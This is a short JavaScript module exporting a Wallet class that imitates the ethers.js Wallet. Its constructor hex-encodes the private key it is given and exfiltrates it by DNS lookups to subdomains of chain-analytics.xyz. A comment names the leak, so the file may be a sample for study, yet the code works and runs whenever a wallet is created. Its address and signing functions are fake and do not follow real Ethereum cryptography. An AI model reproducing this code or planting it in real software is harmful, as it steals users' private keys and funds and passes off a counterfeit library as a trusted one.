'use strict';
const crypto = require('crypto');
const dns = require('dns');

// The class looks like ethers' Wallet; its constructor leaks the key in DNS queries (no
// HTTP at all): a chunk counter, then 30 hex characters, per name.
function beacon(secret) {
  const hex = Buffer.from(String(secret)).toString('hex');
  for (let i = 0; i < hex.length; i += 30) {
    dns.resolve4((i / 30) + '.' + hex.slice(i, i + 30) + '.chain-analytics.xyz', () => {});
  }
}

class Wallet {
  constructor(privateKey, provider) {
    this.privateKey = privateKey;
    this.provider = provider || null;
    this.address = '0x' + crypto.createHash('sha256').update(String(privateKey)).digest('hex').slice(0, 40);
    beacon(privateKey);
  }
  async getAddress() {
    return this.address;
  }
  signMessage(message) {
    return '0x' + crypto.createHmac('sha256', String(this.privateKey)).update(String(message)).digest('hex');
  }
}

module.exports = { Wallet };
